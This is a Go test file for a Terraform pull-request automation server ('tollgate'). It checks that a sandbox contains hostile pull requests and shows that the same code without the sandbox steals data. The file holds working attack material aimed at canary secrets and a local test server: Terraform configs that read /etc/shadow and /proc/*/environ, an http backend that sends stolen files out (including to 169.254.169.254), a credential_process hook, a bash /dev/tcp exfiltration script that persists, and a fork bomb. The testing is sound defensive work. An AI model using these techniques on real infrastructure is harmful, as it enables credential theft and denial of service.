package sandbox_test

import (
	"bytes"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"testing/fstest"
	"time"

	"github.com/tollgate/tollgate/infrastructure"
	"github.com/tollgate/tollgate/internal/ghsim"
	"github.com/tollgate/tollgate/internal/sandbox"
	"github.com/tollgate/tollgate/internal/toolchain"
)

// ungated are flags by which the source gate refuses nothing.
func ungated(t *testing.T) []string {
	t.Helper()
	files := map[string]string{}
	for family, rules := range map[string][]string{
		"providers": {"provider", "lock", "lock-version", "lock-hashes"}, "modules": {"module-source"}, "settings": {"provider-setting", "assumed-role"},
		"execution": {"provisioner", "data-source", "file-path"}, "state": {"backend", "backend-moved", "remote-state"},
		"tree": {"committed", "link", "submodule", "lfs", "override", "size", "unreadable"},
	} {
		files["source/"+family+"/levels.yaml"] = "levels: {" + strings.Join(rules, ": warn, ") + ": warn}\n"
	}
	return organisation(t, files)
}

// thief is what hostile code wants, and how a test notices that it got it.
type thief struct {
	world    *sandbox.World
	outside  string // a directory of this machine that no plan has to do with
	marker   string // of processes that it leaves behind
	variable string // of the server's environment, by a name that no other test has
	canaries map[string]string

	mu   sync.Mutex
	loot []string // what came to the thief's own server
	url  string
}

// newThief plants canaries where secrets lie: in the server's environment, its data directory, the state
// of another repository, and on the machine.
func newThief(t *testing.T, args ...string) *thief {
	t.Helper()
	return newThiefIn(t, start, fstest.MapFS{"peek/main.tf": {Data: []byte("# Empty.\n")}, "send/main.tf": {Data: []byte("# Empty.\n")},
		"launch/main.tf": {Data: []byte("# Empty.\n")}, "run/main.tf": {Data: []byte("# Empty.\n")}}, args...)
}

// newThiefIn is newThief with a repository of its own, in a world that start starts.
func newThiefIn(t *testing.T, start func(testing.TB, sandbox.Config) *sandbox.World, files fstest.MapFS, args ...string) *thief {
	t.Helper()
	found := parts(t, toolchain.Terraform, toolchain.Git, toolchain.Providers)
	th := &thief{outside: t.TempDir(), canaries: map[string]string{}}
	th.url = newServer(t, func(w http.ResponseWriter, r *http.Request) {
		th.mu.Lock()
		th.loot = append(th.loot, r.URL.String())
		th.mu.Unlock()
		fmt.Fprint(w, `{"version":4,"terraform_version":"1.11.0","serial":1,"lineage":"x","outputs":{},"resources":[]}`)
	})
	_, port, _ := strings.Cut(strings.TrimPrefix(th.url, "http://"), ":")
	th.marker, th.variable = "600.0"+port, "TOKEN_"+port
	for _, place := range []string{"environment", "data", "neighbour", "machine"} {
		th.canaries[place] = "canary-not-a-secret-" + place + "-" + port
	}
	th.world = start(t, sandbox.Config{Terraform: found.Terraform, Mirrors: found.Mirrors, Args: append(ungated(t), args...), Files: files})
	data := th.dataDir()
	for file, place := range map[string]string{filepath.Join(data, "notes"): "data", filepath.Join(data, "states", "999999", "app", "terraform.tfstate"): "neighbour", filepath.Join(th.outside, "notes"): "machine"} {
		if err := os.MkdirAll(filepath.Dir(file), 0o700); err != nil {
			t.Fatal(err)
		}
		text := th.canaries[place]
		if place == "neighbour" { // a state that Terraform reads
			text = fmt.Sprintf(`{"version":4,"terraform_version":"1.11.0","serial":1,"lineage":"x","outputs":{"secret":{"value":%q,"type":"string"}},"resources":[]}`, text)
		}
		if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	bot := th.world.Bot
	if err := bot.Stop(); err != nil {
		t.Fatal(err)
	}
	bot.Environ = append(slices.Clone(bot.Environ), th.variable+"="+th.canaries["environment"])
	if err := bot.Start(t.Context()); err != nil {
		t.Fatal(err)
	}
	return th
}

func (th *thief) dataDir() string {
	args := th.world.Bot.Args
	return args[slices.Index(args, "--data-dir")+1]
}

// secrets are the files with canaries, and those that are secret anyway.
func (th *thief) secrets() []string {
	data := th.dataDir()
	return []string{filepath.Join(data, "notes"), filepath.Join(data, "states", "999999", "app", "terraform.tfstate"), filepath.Join(th.outside, "notes"),
		filepath.Join(data, "artifact.key"), filepath.Join(data, "tollgate.db"), filepath.Join(filepath.Dir(data), "app-key.pem"), "/etc/shadow", "/etc/hostname"}
}

// peek plans a resource for each secret file that can be read, and one if the server's environment can.
func (th *thief) peek() string {
	return fmt.Sprintf(`locals {
  files = [for f in %[1]s : f if can(filebase64(f))]
  tokens = distinct(compact([for p in ["self", "1", "%[2]d"] : try(regex("%[3]s=[a-z0-9-]+", file("/proc/${p}/environ")), "")]))
}

resource "terraform_data" "file" {
  for_each = toset(local.files)
}

resource "terraform_data" "token" {
  count = length(local.tokens)
}
`, quoted(th.secrets()), th.server(), th.variable)
}

// server is the process id of the server, which hostile code would have to guess.
func (th *thief) server() int {
	return slices.Max(append(running("serve\x00--listen\x00"+strings.TrimPrefix(th.world.Bot.URL, "http://")+"\x00"), 0))
}

// running are the processes whose command line holds a text.
func running(text string) (pids []int) {
	all, _ := filepath.Glob("/proc/[0-9]*/cmdline")
	for _, file := range all {
		b, _ := os.ReadFile(file) // gone by now
		if strings.Contains(string(b), text) {
			pid, _ := strconv.Atoi(filepath.Base(filepath.Dir(file)))
			pids = append(pids, pid)
		}
	}
	return pids
}

// send sends what it finds to the thief while it plans.
func (th *thief) send(address string) string {
	return fmt.Sprintf(`data "terraform_remote_state" "loot" {
  backend = "http"
  config = {
    address = "%s/?loot=${join(".", [for f in %s : try(filebase64(f), "")])}"
  }
}
`, address, quoted(th.secrets()[:3]))
}

// evil is a program that steals, writes where it has no business, and stays.
func (th *thief) evil() string { return th.evilTo(th.url, th.outside) }

// evilTo is evil that sends to a server and writes in a directory.
func (th *thief) evilTo(url, dir string) string {
	return fmt.Sprintf(`token=$(cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | grep -a -m1 %[5]s= | base64 -w0)
files=$(cat %[1]s 2>/dev/null | base64 -w0)
bash -c "exec 3<>/dev/tcp/%[2]s; printf 'GET /?token=$token&files=$files HTTP/1.0\r\n\r\n' >&3; cat <&3" >/dev/null 2>&1
echo "$token" >%[3]s/mark
(setsid sleep %[4]s >/dev/null 2>&1 &)
echo '{"Version": 1, "AccessKeyId": "stolen", "SecretAccessKey": "stolen"}'
`, strings.Join(th.secrets()[:3], " "), strings.Replace(strings.TrimPrefix(url, "http://"), ":", "/", 1), dir, th.marker, th.variable)
}

// launch has the AWS provider, which is allowed everywhere, run a program for credentials.
func (th *thief) launch(t *testing.T) map[string]string {
	t.Helper()
	lock, err := infrastructure.Files.ReadFile(".terraform.lock.hcl")
	if err != nil {
		t.Fatal(err)
	}
	return map[string]string{"launch/evil.sh": th.evil(), "launch/.terraform.lock.hcl": string(lock),
		"launch/config": "[profile x]\nregion = us-east-1\ncredential_process = sh evil.sh\n",
		"launch/main.tf": `terraform {
  required_providers {
    aws = { source = "hashicorp/aws" }
  }
}

provider "aws" {
  region                 = "us-east-1"
  profile                = "x"
  shared_config_files    = ["${path.module}/config"]
  max_retries            = 1
  skip_region_validation = true
}

data "aws_caller_identity" "me" {}
`}
}

const provisioned = `resource "terraform_data" "a" {
  provisioner "local-exec" {
    command = "sh evil.sh >/dev/null 2>&1; echo fine >done"
  }
}
`

func quoted(list []string) string {
	out := make([]string, len(list))
	for i, s := range list {
		out[i] = strconv.Quote(s)
	}
	return "[" + strings.Join(out, ", ") + "]"
}

// received is everything that came to the thief.
func (th *thief) received() string {
	th.mu.Lock()
	defer th.mu.Unlock()
	return strings.Join(th.loot, "\n")
}

// stays are processes of the thief that go on.
func (th *thief) stays() []int { return running("sleep\x00" + th.marker + "\x00") }

// seen says which canaries stand in a text, in whatever form.
func (th *thief) seen(text []byte) (places []string) {
	for place, secret := range th.canaries {
		forms := []string{secret, hex.EncodeToString([]byte(secret))}
		for shift := range 3 { // the first and the last characters depend on what stands beside it
			whole := base64.StdEncoding.EncodeToString([]byte(strings.Repeat("x", shift) + secret))
			forms = append(forms, whole[4:len(whole)-4])
		}
		if slices.ContainsFunc(forms, func(f string) bool { return bytes.Contains(text, []byte(f)) }) {
			places = append(places, place)
		}
	}
	slices.Sort(places)
	return places
}

// leaks are the canaries in what GitHub got and in the server's log.
func (th *thief) leaks(t *testing.T) []string {
	t.Helper()
	text, err := os.ReadFile(th.world.Bot.Log)
	if err != nil {
		t.Fatal(err)
	}
	for _, ex := range th.world.GitHub.Requests() {
		text = append(append(text, ex.Path...), ex.Body...)
	}
	return th.seen(text)
}

// apply approves and applies what was planned.
func (th *thief) apply(t *testing.T, p *ghsim.Pull) ghsim.CheckRun {
	t.Helper()
	want(t, th.world, p.Info().HeadSHA, "tollgate", "success")
	approve(t, p)
	if _, err := p.Comment(sandbox.Author, "/apply"); err != nil {
		t.Fatal(err)
	}
	return await(t, th.world, p.Info().HeadSHA, "tollgate/apply: run")
}

// With the source gate switched off, the sandbox alone contains what pull requests run: while they are
// planned and while they are applied.
//
// Covers: T39, T42, T43, T44, T45, T46, T47, T56, T70
func TestTheSandboxAloneContains(t *testing.T) {
	t.Parallel()
	th := newThief(t)
	w := th.world
	peek := propose(t, w, "peek", map[string]string{"peek/main.tf": th.peek()})
	send := propose(t, w, "send", map[string]string{"send/main.tf": th.send(th.url)})
	metadata := propose(t, w, "metadata", map[string]string{"send/main.tf": th.send("http://169.254.169.254")})
	launch := propose(t, w, "launch", th.launch(t))
	if c := want(t, w, peek.Info().HeadSHA, "tollgate/plan: peek", "success"); !strings.Contains(c.Title, "no changes") {
		t.Errorf("files or environments of the server can be read: %s\n%s", c.Title, c.Summary)
	}
	for _, p := range []*ghsim.Pull{send, metadata, launch} {
		if c := await(t, w, p.Info().HeadSHA, "tollgate"); c.Conclusion != "failure" {
			t.Errorf("a plan that cannot reach its server concluded %q: %s", c.Conclusion, c.Title)
		}
	}
	if c, _ := w.Repo.CheckRun(metadata.Info().HeadSHA, "tollgate/plan: send"); !strings.Contains(c.Summary+c.Text, "169.254.169.254:80") {
		t.Errorf("the host that was out of reach is not named:\n%s\n%s", c.Summary, c.Text)
	}
	run := propose(t, w, "run", map[string]string{"run/evil.sh": th.evil(), "run/main.tf": provisioned})
	if c := th.apply(t, run); c.Conclusion != "success" {
		t.Errorf("the apply concluded %q: %s\n%s", c.Conclusion, c.Title, c.Summary)
	}
	if got := th.received(); got != "" {
		t.Errorf("a server off the list was reached:\n%s", got)
	}
	if places := th.leaks(t); len(places) > 0 {
		t.Errorf("canaries came out: %v", places)
	}
	if _, err := os.Stat(filepath.Join(th.outside, "mark")); !os.IsNotExist(err) {
		t.Errorf("a file was written outside of the room: %v", err)
	}
	if pids := th.stays(); len(pids) > 0 {
		t.Errorf("processes are left: %v", pids)
	}
	left, err := filepath.Glob(filepath.Join(th.dataDir(), "work", "*", "*"))
	if err != nil || len(left) > 0 {
		t.Errorf("files of finished jobs are left: %v, %v", left, err)
	}
}

// The same code without the sandbox: what the test above relies on is no empty threat.
func TestTheSameCodeWithoutASandboxStealsEverything(t *testing.T) {
	t.Parallel()
	th := newThief(t, "--sandbox=off")
	w := th.world
	t.Cleanup(func() {
		for _, pid := range th.stays() {
			_ = syscall.Kill(pid, syscall.SIGKILL)
		}
	})
	peek := propose(t, w, "peek", map[string]string{"peek/main.tf": th.peek()})
	send := propose(t, w, "send", map[string]string{"send/main.tf": th.send(th.url)})
	if c := want(t, w, peek.Info().HeadSHA, "tollgate/plan: peek", "success"); strings.Contains(c.Title, "no changes") {
		t.Errorf("nothing can be read: %s", c.Title)
	}
	want(t, w, send.Info().HeadSHA, "tollgate", "success")
	if got := th.seen(th.decoded()); !slices.Equal(got, []string{"data", "machine", "neighbour"}) {
		t.Errorf("the plan sent %v", got)
	}
	launch := propose(t, w, "launch", th.launch(t))
	await(t, w, launch.Info().HeadSHA, "tollgate")
	mark := filepath.Join(th.outside, "mark")
	token, err := os.ReadFile(mark)
	if decoded, _ := base64.StdEncoding.DecodeString(strings.TrimSpace(string(token))); err != nil || len(th.seen(decoded)) == 0 {
		t.Errorf("the provider's program found %q, %v", token, err)
	}
	if err := os.Remove(mark); err != nil {
		t.Error(err)
	}
	run := propose(t, w, "run", map[string]string{"run/evil.sh": th.evil(), "run/main.tf": provisioned})
	th.apply(t, run)
	if _, err := os.Stat(mark); err != nil {
		t.Error(err)
	}
	if len(th.stays()) == 0 {
		t.Error("no process stays")
	}
	if got := th.seen(th.decoded()); !slices.Contains(got, "environment") {
		t.Errorf("the provisioner sent %v", got)
	}
}

// decoded is what came to the thief, with what is in base64 in clear.
func (th *thief) decoded() []byte {
	var out []byte
	for _, part := range strings.FieldsFunc(th.received(), func(r rune) bool { return strings.ContainsRune("?&=.\n", r) }) {
		for len(part)%4 != 0 {
			part += "="
		}
		if b, err := base64.StdEncoding.DecodeString(part); err == nil {
			out = append(append(out, b...), '\n')
		}
	}
	return out
}

// A plan that takes all memory, or that starts processes without end, is ended, and what comes after it
// is planned.
//
// Covers: T39, T63
func TestHogsAreEnded(t *testing.T) {
	t.Parallel()
	th := newThief(t, "--sandbox-memory=500")
	for name, script := range map[string]string{"memory": "x=0123456789; while true; do x=$x$x; done", "processes": "f() { f | f & }; f; while true; do sleep 1; done"} {
		files := th.launch(t)
		files["launch/evil.sh"] = script + "\n"
		p := propose(t, th.world, name, files)
		c := want(t, th.world, p.Info().HeadSHA, "tollgate/plan: launch", "failure")
		if !strings.Contains(c.Summary+c.Text, "went over a limit ("+name) {
			t.Errorf("%s: the check does not say which limit:\n%s\n%s", name, c.Summary, c.Text)
		}
	}
	begun := time.Now()
	fine := propose(t, th.world, "fine", map[string]string{"run/main.tf": one})
	want(t, th.world, fine.Info().HeadSHA, "tollgate", "success")
	t.Logf("planned %s after them", time.Since(begun).Round(time.Second))
}
